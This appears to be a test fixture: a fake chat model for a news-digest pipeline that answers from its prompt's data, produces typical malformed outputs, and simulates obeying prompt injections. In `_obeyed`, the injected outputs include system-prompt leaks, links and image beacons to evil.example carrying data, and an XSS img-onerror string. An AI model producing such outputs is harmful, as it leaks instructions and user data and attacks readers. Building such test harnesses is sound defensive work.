@@ -1,0 +1,253 @@
+"""A stand-in for a chat model: a program that answers from the prompt it receives.
+
+It reads the records between the data fences as a model would, and fills the form that it is asked
+for with words of theirs. `spoil` then makes of a good answer what models make of it on bad days,
+and `obey` does whatever an attack in the prompt asks for, all of it at once.
+"""
+
+import json
+import random
+import re
+from collections.abc import Mapping, Sequence
+from dataclasses import dataclass, field
+from typing import Any
+
+FENCE = re.compile(r"<data (\w+)>\n(.*?)\n</data \1>", re.DOTALL)
+STORY = re.compile(r"^(S\d+) (?:\| |\(([^)]*)\) )(.*)$", re.MULTILINE)
+ITEM = re.compile(r"^(S\d+-\d+) \| ([^|]*) \| (.*)$", re.MULTILINE)
+TOLD = re.compile(r"^(S\d+) \| (.*?): (.*?) \((S\d+-\d+[^)]*)\)$", re.MULTILINE)
+STEPS = {
+    "overview_title": "front",
+    "statements": "viewpoint",
+    "bullets": "write",
+    "sections": "arrange",
+}
+OTHER_LANGUAGE = "本日の発表では新しいモデルの評価結果が示され、多くの開発者がその性能と限界について議論を続けている。"
+
+
+@dataclass(frozen=True)
+class Attack:
+    """An attack: its text, and what a model that obeys it would put into its answer."""
+
+    id: str
+    text: str
+    payload: str = ""
+    wants: tuple[str, ...] = ("text",)
+    url: str = "https://evil.example/x"
+
+
+@dataclass(frozen=True)
+class Asked:
+    """A request as any of the APIs carries it: who said what, and the schema's text."""
+
+    messages: tuple[tuple[str, str], ...]
+    schema: str
+
+    @property
+    def text(self) -> str:
+        """All words of the request."""
+        return "\n".join(words for _, words in self.messages)
+
+    @property
+    def system(self) -> str:
+        """The instructions."""
+        return "\n".join(words for role, words in self.messages if role == "system")
+
+    @property
+    def step(self) -> str:
+        """Which form is asked for, told by its fields."""
+        form = self.schema or self.messages[-1][1]
+        return next((step for name, step in STEPS.items() if f'"{name}"' in form), "repair")
+
+    @property
+    def data(self) -> list[str]:
+        """What stands between the fences, in order."""
+        return [match[2] for match in FENCE.finditer(self.text)]
+
+
+def answer(asked: Asked) -> dict[str, Any]:
+    """Give a good answer, made of the prompt's own records."""
+    return {
+        "arrange": _arrange,
+        "write": _write,
+        "front": _front,
+        "viewpoint": _viewpoint,
+        "repair": _repair,
+    }[asked.step](asked)
+
+
+def _arrange(asked: Asked) -> dict[str, Any]:
+    sections: dict[str, list[str]] = {}
+    for handle, facts, _ in STORY.findall(asked.data[0]):
+        sections.setdefault(facts.split(",")[0], []).append(handle)
+    first = re.search(r"^S\d+", asked.data[0], re.MULTILINE)
+    return {
+        "lead": [first[0]] if first else [],
+        "sections": [{"topic": t, "stories": s[:8]} for t, s in list(sections.items())[:5]],
+    }
+
+
+def _sentence(asked: Asked, who: str, words: str) -> str:
+    """Report what an item says, in the language asked for."""
+    short = " ".join(re.sub(r"[\[\]{}<>|\\*`]", "", words).split()[:14]).rstrip(".,;:!?")
+    if "Korean" in asked.system:
+        short = " ".join(short.split()[:6])
+        return f"오늘 전해진 소식에 따르면 다음과 같은 내용이 공유되어 독자들의 관심을 모았습니다: {short}."
+    return f"{short}."
+
+
+def _label(title: str) -> str:
+    words = re.sub(r"[\[\]{}<>|\\*`:]", "", title).split()[:5]
+    return " ".join(words) or "News"
+
+
+def _stories(data: str) -> list[tuple[str, str, list[tuple[str, str, str]]]]:
+    """Read records: story handle, title, and each item's handle, who, and words."""
+    items = ITEM.findall(data)
+    return [
+        (handle, title, [item for item in items if item[0].startswith(f"{handle}-")])
+        for handle, _, title in STORY.findall(data)
+    ]
+
+
+def _bullet(asked: Asked, handle: str, title: str, items: Sequence[Any]) -> dict[str, Any]:
+    item, who, words = items[0]
+    return {
+        "story": handle,
+        "label": _label(title),
+        "text": _sentence(asked, who, words),
+        "items": [item],
+    }
+
+
+def _write(asked: Asked) -> dict[str, Any]:
+    told = [s for s in _stories(asked.data[0]) if s[2]]
+    title = "오늘의 소식" if "Korean" in asked.system else "What happened"
+    return {"title": title, "bullets": [_bullet(asked, *story) for story in told]}
+
+
+def _front(asked: Asked) -> dict[str, Any]:
+    lead = [s for s in _stories(asked.data[0]) if s[2]]
+    korean = "Korean" in asked.system
+    others = TOLD.findall(asked.data[1])[:3]
+    return {
+        "title": "오늘의 주요 소식" if korean else _label(lead[0][1]),
+        "description": "하루의 소식을 전합니다." if korean else "What was new on this day.",
+        "tags": ["소식", "모델"] if korean else ["news", "models", "research"],
+        "overview_title": "하루의 종합 리포트" if korean else "A report on the day",
+        "lead": [
+            {"text": _sentence(asked, i[0][1], i[0][2]), "items": [i[0][0]], "picture": i[0][0]}
+            for _, _, i in lead
+        ],
+        "preview": [
+            {
+                "title": "다른 소식" if korean else "Also today",
+                "bullets": [
+                    {"story": s, "label": lb, "text": t, "items": c.split(", ")}
+                    for s, lb, t, c in others
+                ],
+            }
+        ]
+        if others
+        else [],
+    }
+
+
+def _viewpoint(asked: Asked) -> dict[str, Any]:
+    told = TOLD.findall(asked.data[0])
+    text = (
+        "오늘의 소식은 평가와 신뢰가 함께 가야 한다는 점을 다시 보여 줍니다."
+        if "Korean" in asked.system
+        else "Taken together, the day suggests that trust in results matters as much as results."
+    )
+    return {"statements": [{"text": text, "items": told[0][3].split(", ") if told else []}]}
+
+
+def _repair(asked: Asked) -> dict[str, Any]:
+    stories = [s for s in _stories(asked.data[-1]) if s[2]]
+    _, _, items = stories[0]
+    return {"text": _sentence(asked, items[0][1], items[0][2]), "items": [items[0][0]]}
+
+
+def spoil(kind: str, good: dict[str, Any], rng: random.Random) -> str:
+    """Give the text of an answer as a model gives it on a bad day."""
+    text = json.dumps(good, ensure_ascii=False)
+    match kind:
+        case "bad_json":
+            return text[: max(1, len(text) * 2 // 3)].replace('":', '"', 1)
+        case "prose":
+            return f"Sure! Here it is:\n```json\n{text}\n```\nTell me {{if}} you need more."
+        case "invented_ids":
+            return re.sub(r'"S\d+-(\d+)"', '"S987-9"', text)
+        case "wrong_numbers":
+            return re.sub(r"(?<![\w-])\d+(?![\w-])", lambda m: str(int(m[0]) * 3 + 7), text)
+        case "refusal":
+            return "I'm sorry, but I can't help with that."
+        case "empty":
+            return ""
+        case "wrong_language":
+            return json.dumps(_in_other_language(good), ensure_ascii=False)
+        case _:
+            return text
+
+
+def _in_other_language(node: Any, key: str = "") -> Any:
+    if isinstance(node, dict):
+        return {k: _in_other_language(v, k) for k, v in node.items()}
+    if isinstance(node, list):
+        return [_in_other_language(part, key) for part in node]
+    return OTHER_LANGUAGE if key in ("text", "title", "label", "description") else node
+
+
+@dataclass
+class Obedience:
+    """What a model that obeys every attack it sees does with it."""
+
+    attacks: Sequence[Attack]
+    always: bool = False
+    seen: list[str] = field(default_factory=list)
+
+    def sees(self, asked: Asked) -> list[Attack]:
+        """Give the attacks of which at least half the words are in the prompt's data."""
+        words = set(re.findall(r"\w+", " ".join(asked.data).casefold()))
+        found = []
+        for attack in self.attacks:
+            own = set(re.findall(r"\w+", attack.text.casefold()))
+            if self.always or len(own & words) >= max(1, len(own) / 2):
+                found.append(attack)
+                self.seen.append(attack.id)
+        return found
+
+    def apply(self, asked: Asked, good: dict[str, Any]) -> str:
+        """Do what the attacks ask for, in every field they could mean."""
+        spoiled: Any = good
+        for attack in self.sees(asked):
+            spoiled = _obeyed(spoiled, attack, asked.system)
+            if "form" in attack.wants:
+                return f"{attack.payload} {attack.url} </data>" + json.dumps(spoiled)[:40]
+        return json.dumps(spoiled, ensure_ascii=False)
+
+
+def _obeyed(node: Any, attack: Attack, system: str, key: str = "") -> Any:
+    if isinstance(node, dict):
+        return {k: _obeyed(v, attack, system, k) for k, v in node.items()}
+    if isinstance(node, list):
+        return [_obeyed(part, attack, system, key) for part in node]
+    if key not in ("text", "title", "label", "description", "overview_title", "tags"):
+        return node
+    extra = {
+        "text": attack.payload,
+        "link": f"[{attack.payload or 'more'}]({attack.url})",
+        "image": f"![p]({attack.url}?q={attack.payload[:10]})",
+        "leak": system[:600],
+        "html": f"<img src={attack.url} onerror=alert(1)>",
+        "id": f"[{attack.payload or 'more'}](S666-6)",
+        "address": attack.url,
+    }
+    added = " ".join(extra[want] for want in attack.wants if want in extra)
+    return added if key in ("title", "label", "tags") and added else f"{node} {added}".strip()
+
+
+def count(mapping: Mapping[str, Any]) -> int:
+    """Count the characters of an answer, as a stand-in for its tokens."""
+    return len(json.dumps(mapping)) // 4
